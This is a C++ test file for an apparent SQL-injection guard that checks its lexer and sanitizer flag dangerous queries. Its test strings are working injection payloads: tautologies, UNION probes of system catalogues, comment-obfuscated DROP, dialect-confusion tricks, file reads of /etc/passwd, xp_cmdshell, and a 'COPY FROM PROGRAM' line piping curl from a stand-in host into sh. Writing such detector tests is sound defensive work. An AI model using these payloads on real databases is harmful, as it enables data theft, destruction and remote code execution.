#include <doctest/doctest.h>

#include <algorithm>
#include <chrono>
#include <set>

#include "guard/sql_lexer.h"
#include "guard/sql_sanitizer.h"
#include "guard_text_corpus.h"

using namespace portcullis;
using namespace portcullis::guard;

namespace {

std::set<std::string> rules(std::string_view sql, const SqlSettings& s = {}) {
  std::set<std::string> out;
  for (const auto& f : SqlSanitizer(s).check(sql)) out.insert(f.rule);
  return out;
}

bool has(std::string_view sql, const std::string& rule, const SqlSettings& s = {}) {
  return rules(sql, s).count(rule) > 0;
}

std::vector<std::string> words(std::string_view sql) {
  std::vector<std::string> out;
  for (const auto& t : sql::lex(sql).tokens)
    if (t.is(sql::TokenKind::kWord)) out.push_back(t.text);
  return out;
}

}  // namespace

TEST_CASE(
    "the lexer keeps keywords inside strings, identifiers and comments out of the word stream") {
  CHECK(
      words(
          "SELECT 'DROP TABLE x', \"DELETE\", `update`, [truncate] FROM t -- DROP\n/* ALTER */") ==
      std::vector<std::string>{"SELECT", "FROM", "T"});
  CHECK(words("SELECT 'it''s; DROP' FROM t") == std::vector<std::string>{"SELECT", "FROM", "T"});
  CHECK(words("SELECT E'a\\'; DROP x' FROM t") == std::vector<std::string>{"SELECT", "FROM", "T"});
  CHECK(words("SELECT $$ ; DROP $$, $fn$ $$ DELETE $fn$ FROM t") ==
        std::vector<std::string>{"SELECT", "FROM", "T"});
  CHECK(words("SELECT /* a /* nested */ DROP */ 1") == std::vector<std::string>{"SELECT"});
}

TEST_CASE("a comment between letters splits the word and is reported") {
  auto lexed = sql::lex("DR/**/OP TABLE users");
  CHECK(words("DR/**/OP TABLE users") == std::vector<std::string>{"DR", "OP", "TABLE", "USERS"});
  REQUIRE(lexed.split_comments.size() == 1);
  CHECK(lexed.split_comments[0] == std::pair<size_t, size_t>{2, 6});
  CHECK(has("DR/**/OP TABLE users", "comment_obfuscation"));
  CHECK(has("SELECT 1 UNION/**/SELECT password FROM pg_shadow", "comment_obfuscation"));
  CHECK(has("SELECT 1 UNION/**/SELECT password FROM pg_shadow", "union_select"));
  CHECK_FALSE(has("SELECT a /* the id */ FROM t", "comment_obfuscation"));
}

TEST_CASE("MySQL executable comments are lexed as code") {
  CHECK(words("SELECT 1 /*!50000 UNION SELECT */ 2") ==
        std::vector<std::string>{"SELECT", "UNION", "SELECT"});
  CHECK(has("SELECT 1; /*! DROP TABLE t */", "executable_comment"));
  CHECK(has("SELECT 1; /*! DROP TABLE t */", "ddl_drop"));
}

TEST_CASE("statements split on semicolons outside quotes and comments") {
  auto st = sql::split_statements(sql::lex("SELECT ';'; -- ;\n SELECT 2;;").tokens);
  CHECK(st.size() == 2);
  CHECK(has("SELECT 1; DELETE FROM t WHERE id = 1", "multiple_statements"));
  CHECK_FALSE(has("SELECT 1;", "multiple_statements"));
  CHECK_FALSE(has("SELECT ';' AS semi", "multiple_statements"));
}

TEST_CASE("DDL verbs are blocked, but not when they are only mentioned") {
  CHECK(has("DROP TABLE users", "ddl_drop"));
  CHECK(has("truncate orders", "ddl_truncate"));
  CHECK(has("ALTER TABLE t ADD COLUMN x int", "ddl_alter"));
  CHECK(has("CREATE USER eve", "ddl_create"));
  CHECK(has("GRANT ALL ON t TO eve", "ddl_grant"));
  CHECK(has("REVOKE SELECT ON t FROM bob", "ddl_revoke"));
  CHECK(has("RENAME TABLE a TO b", "ddl_rename"));
  CHECK(has("(DROP TABLE users)", "ddl_drop"));
  CHECK(rules("SELECT 'DROP TABLE users' AS hint").empty());
  CHECK(rules("SELECT drop_count FROM stats -- DROP TABLE").empty());
  SqlSettings off;
  off.ddl = false;
  CHECK_FALSE(has("DROP TABLE users", "ddl_drop", off));
}

TEST_CASE("DELETE and UPDATE need a WHERE that is not always true") {
  CHECK(has("DELETE FROM users", "delete_without_where"));
  CHECK(has("UPDATE users SET admin = true", "update_without_where"));
  CHECK(has("UPDATE users SET a = (SELECT 1 FROM x WHERE y = 1)", "update_without_where"));
  for (const char* where :
       {"1=1", "true", "'a'='a'", "1", "id = 5 OR 1=1", "(1=1)", "2>1", "id = id", "NOT false",
        "1 IN (1, 2)", "'x' LIKE '%'", "1 BETWEEN 0 AND 2"}) {
    CAPTURE(where);
    CHECK(has(std::string("DELETE FROM users WHERE ") + where, "delete_always_true"));
    CHECK(has(std::string("UPDATE users SET a = 1 WHERE ") + where, "update_always_true"));
  }
  for (const char* where :
       {"id = 5", "id = 5 AND 1=1", "1=0 OR id = 3", "false", "created_at < now()",
        "name = 'a' OR name = 'b'", "1 = 2", "x IS NULL"}) {
    CAPTURE(where);
    CHECK(rules(std::string("DELETE FROM users WHERE ") + where).empty());
  }
  CHECK(rules("UPDATE users SET update_at = now() WHERE id = 7").empty());
  SqlSettings off;
  off.unbounded_writes = false;
  CHECK(rules("DELETE FROM users", off).empty());
}

TEST_CASE("tautologies after OR are found wherever they are, and not inside strings") {
  for (const char* q :
       {"SELECT * FROM u WHERE name = 'x' OR 1=1", "SELECT * FROM u WHERE name = '' OR 'a'='a'",
        "SELECT * FROM u WHERE id = 1 OR 2>1", "SELECT * FROM u WHERE a = 1 OR x=x",
        "SELECT * FROM u WHERE (a = 1 OR 1=1) AND b = 2", "SELECT * FROM u WHERE a=1 OR TRUE --"}) {
    CAPTURE(q);
    CHECK(has(q, "tautology"));
  }
  CHECK(rules("SELECT 'OR 1=1' AS s").empty());
  CHECK(rules("SELECT * FROM u WHERE a = 1 OR b = 2").empty());
  CHECK(rules("SELECT * FROM u WHERE 1=1 AND a = 2").empty());  // query builders write this
  CHECK(rules("SELECT * FROM u WHERE a = 1 OR 1=1 AND b = 2").empty());  // AND binds tighter
}

TEST_CASE("UNION SELECT is flagged when it reads catalogues, pads with NULL or probes columns") {
  CHECK(
      has("SELECT name FROM p WHERE id = 1 UNION SELECT table_name FROM information_schema.tables",
          "union_select"));
  CHECK(has("SELECT a FROM p UNION ALL SELECT NULL, NULL, password FROM users", "union_select"));
  CHECK(has("SELECT a FROM p UNION SELECT sql FROM sqlite_master", "union_select"));
  CHECK(has("SELECT a FROM p UNION SELECT 1,2,3", "union_select"));
  CHECK(has("SELECT a FROM p UNION SELECT @@version", "union_select"));
  CHECK(has("SELECT a FROM p UNION SELECT relname FROM pg_catalog.pg_class", "union_select"));
  CHECK(rules("SELECT a FROM p UNION SELECT a FROM q").empty());
  SqlSettings any;
  any.union_mode = UnionMode::kAny;
  CHECK(has("SELECT a FROM p UNION SELECT a FROM q", "union_select", any));
}

TEST_CASE("time, file and command functions are flagged") {
  CHECK(has("SELECT pg_sleep(10)", "time_function"));
  CHECK(has("SELECT * FROM u WHERE id = 1 AND SLEEP(5)", "time_function"));
  CHECK(has("SELECT BENCHMARK(1000000, MD5('a'))", "time_function"));
  CHECK(has("SELECT 1; WAITFOR DELAY '0:0:5'", "time_function"));
  CHECK(has("SELECT LOAD_FILE('/etc/passwd')", "file_access"));
  CHECK(has("SELECT * FROM u INTO OUTFILE '/tmp/u.txt'", "file_access"));
  CHECK(has("SELECT pg_read_file('/etc/passwd')", "file_access"));
  CHECK(has("COPY users TO '/tmp/users.csv'", "file_access"));
  CHECK(has("COPY t FROM PROGRAM 'curl evil | sh'", "command_execution"));
  CHECK(has("EXEC xp_cmdshell 'dir'", "command_execution"));
  CHECK(rules("SELECT sleep_minutes, benchmark FROM habits").empty());
  CHECK(rules("COPY users TO STDOUT").empty());
}

TEST_CASE("read-only mode allows SELECT, WITH ... SELECT and EXPLAIN without ANALYZE of writes") {
  SqlSettings ro;
  ro.read_only = true;
  CHECK(rules("SELECT * FROM t", ro).empty());
  CHECK(rules("WITH x AS (SELECT 1) SELECT * FROM x", ro).empty());
  CHECK(rules("EXPLAIN DELETE FROM t WHERE id = 1", ro).empty());
  CHECK(rules("EXPLAIN ANALYZE SELECT * FROM t", ro).empty());
  CHECK(has("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "read_only", ro));
  CHECK(has("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2", "read_only", ro));
  CHECK(has("INSERT INTO t VALUES (1)", "read_only", ro));
  CHECK(has("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", "read_only", ro));
  CHECK(has("SELECT * INTO backup FROM t", "read_only", ro));
  CHECK(has("SELECT * FROM t FOR UPDATE", "read_only", ro));
  CHECK(has("SELECT setval('s', 1)", "read_only", ro));
  CHECK(has("SHOW TABLES", "read_only", ro));
  CHECK(rules("SELECT replace(name, 'a', 'b') FROM t", ro).empty());
}

TEST_CASE("table lists see through schemas, quotes, aliases and CTEs") {
  SqlSettings s;
  s.deny_tables = {"secrets", "auth.*"};
  CHECK(has("SELECT * FROM secrets", "table_denied", s));
  CHECK(has("SELECT * FROM \"Public\".\"SECRETS\"", "table_denied", s));
  CHECK(has("SELECT * FROM a JOIN `secrets` s ON a.id = s.id", "table_denied", s));
  CHECK(has("SELECT * FROM orders o, secrets s", "table_denied", s));
  CHECK(has("DELETE FROM auth.users WHERE id = 1", "table_denied", s));
  CHECK(has("INSERT INTO [secrets] (a) VALUES (1)", "table_denied", s));
  CHECK(rules("SELECT secrets FROM vault", s).empty());
  CHECK(rules("SELECT EXTRACT(YEAR FROM secrets) FROM t", s).empty());
  SqlSettings a;
  a.allow_tables = {"public.orders", "customers"};
  CHECK(rules("SELECT * FROM orders o JOIN crm.customers c ON o.c = c.id", a).empty());
  CHECK(rules("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", a).empty());
  CHECK(rules("SELECT * FROM generate_series(1, 3)", a).empty());
  CHECK(has("SELECT * FROM orders UNION SELECT * FROM payroll", "table_not_allowed", a));
  CHECK(has("SELECT * FROM billing.orders", "table_not_allowed", a));
}

TEST_CASE("dynamic SQL in DO blocks and EXEC strings is checked") {
  CHECK(has("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", "ddl_drop"));
  CHECK(has("EXEC('DELETE FROM users')", "delete_without_where"));
}

TEST_CASE("every dialect's reading is checked when the dialect is unknown") {
  // PostgreSQL reads '\' as a whole string and then runs DROP; MySQL reads one long string.
  CHECK(has("SELECT '\\'; DROP TABLE users; --'", "ddl_drop"));
  SqlSettings mysql;
  mysql.dialect = SqlDialect::kMysql;
  CHECK_FALSE(has("SELECT '\\'; DROP TABLE users; --'", "ddl_drop", mysql));
  // MySQL reads '#' as a comment, so the quote after it does not hide the DROP.
  CHECK(has("SELECT 1 # '\n; DROP TABLE users -- '", "ddl_drop"));
  // MySQL reads 1--1 as arithmetic, not as the start of a comment.
  CHECK(has("SELECT 1--1; DROP TABLE users", "ddl_drop"));
  // MySQL ends a comment at the first */, even after a nested /*.
  CHECK(has("SELECT 1 /* /* */ ; DROP TABLE users; /* */", "ddl_drop"));
  SqlSettings pg;
  pg.dialect = SqlDialect::kPostgres;
  CHECK_FALSE(has("SELECT 1--1; DROP TABLE users", "ddl_drop", pg));
}

TEST_CASE("unterminated quotes are reported in SQL, not in free text") {
  CHECK(has("SELECT * FROM t WHERE name = 'abc", "unterminated"));
  CHECK(rules("what's the weather").empty());
}

TEST_CASE("hostile input stays linear: deep parentheses and long OR chains") {
  std::string deep = "SELECT * FROM t WHERE a = 1";
  for (int i = 0; i < 20000; ++i) deep += " OR (b = " + std::to_string(i);
  deep += std::string(20000, ')');
  std::string chain = "DELETE FROM t WHERE a = 0";
  for (int i = 0; i < 50000; ++i) chain += " OR a = " + std::to_string(i + 1);
  auto start = std::chrono::steady_clock::now();
  CHECK(rules(deep).empty());
  CHECK(rules(chain).empty());
  CHECK(has(chain + " OR 1=1", "tautology"));
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(5));
}

TEST_CASE("the sanitizer scans SQL arguments only, chosen by name or by settings") {
  SqlSettings s;
  CHECK(is_sql_argument("query", s));
  CHECK(is_sql_argument("rawSQL", s));
  CHECK(is_sql_argument("sql_statement", s));
  CHECK_FALSE(is_sql_argument("path", s));
  s.sql_args = {"q"};
  CHECK(is_sql_argument("q", s));
  CHECK_FALSE(is_sql_argument("query", s));
  SqlSanitizer det(s);
  ScanContext ctx;
  ctx.field = "query";
  CHECK(det.scan("DROP TABLE t", ctx)->empty());
  ctx.field = "q";
  auto r = det.scan("DROP TABLE t", ctx);
  REQUIRE(r.ok());
  REQUIRE(r->size() == 1);
  CHECK((*r)[0].rule == "ddl_drop");
  CHECK((*r)[0].detector == "sql");
  CHECK((*r)[0].replacement.empty());
  CHECK((*r)[0].start == 0);
  CHECK((*r)[0].end == 12);
}

TEST_CASE("settings load from JSON and reject unknown keys") {
  auto s = SqlSettings::from_json(Json::parse(
      R"({"sql_args":["q"],"read_only":true,"union":"any","deny_tables":["Secrets"],"dialect":"mysql"})"));
  REQUIRE(s.ok());
  CHECK(s->read_only);
  CHECK(s->union_mode == UnionMode::kAny);
  CHECK(s->deny_tables == std::vector<std::string>{"secrets"});
  CHECK(s->dialect == SqlDialect::kMysql);
  CHECK(s->sql_args == std::vector<std::string>{"q"});
  CHECK_FALSE(SqlSettings::from_json(Json::parse(R"({"readonly":true})")).ok());
  CHECK_FALSE(SqlSettings::from_json(Json::parse(R"({"ddl":"yes"})")).ok());
  CHECK_FALSE(SqlSettings::from_json(Json::parse(R"({"union":"some"})")).ok());
}

TEST_CASE("the SQL corpus: recall and false-positive rate") {
  using namespace portcullis::guard::testing;
  SqlSanitizer det{SqlSettings{}};
  Rates rates;
  for (const auto& c : load_cases("sql/positives.sql", "-- @case")) {
    ++rates.positives;
    auto found = det.check(c.text);
    bool hit = std::any_of(found.begin(), found.end(), [&](const Finding& f) {
      return c.expect.empty() ||
             std::find(c.expect.begin(), c.expect.end(), f.rule) != c.expect.end();
    });
    if (hit)
      ++rates.detected;
    else
      MESSAGE("missed positive at line ", c.line, ": ", c.text);
  }
  for (const auto& c : load_cases("sql/negatives.sql", "-- @case")) {
    ++rates.negatives;
    auto found = det.check(c.text);
    if (!found.empty()) {
      ++rates.false_positives;
      MESSAGE("false positive at line ", c.line, " (", found[0].rule, "): ", c.text);
    }
  }
  rates.print("sql");
  CHECK(rates.positives >= 60);
  CHECK(rates.negatives >= 60);
  CHECK(rates.recall() >= 0.95);
  CHECK(rates.fpr() <= 0.02);
}
